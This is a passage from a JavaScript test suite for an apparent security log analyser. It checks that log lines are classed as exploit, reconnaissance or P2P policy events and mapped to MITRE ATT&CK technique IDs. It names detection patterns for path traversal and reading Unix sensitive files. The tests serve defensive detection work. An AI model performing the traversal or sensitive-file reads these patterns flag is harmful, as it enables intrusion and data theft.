    const { event, analysis } = analyseLine(59);
    expect(event.event_type).toBe('exploit');
    expect(analysis.evidence.patterns).toBe('dot_dot_slash,unix_sensitive_file');
    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1083']);
  });

  it('line 8, an Nmap Scripting Engine request: reconnaissance by a named scanner (T1595, T1595.002)', () => {
    const { event, analysis } = analyseLine(8);
    expect(event.event_type).toBe('reconnaissance');
    expect(analysis.evidence.tool).toBe('nmap');
    expect(techniqueIds(analysis)).toEqual(['T1595', 'T1595.002']);
  });

  it('line 1, ET P2P BitTorrent: a P2P policy violation claiming no technique', () => {
    const { event, analysis } = analyseLine(1);
    expect(event.event_type).toBe('policy_violation');
    expect(analysis).toMatchObject({ category: 'p2p', mitre: [] });
  });
});
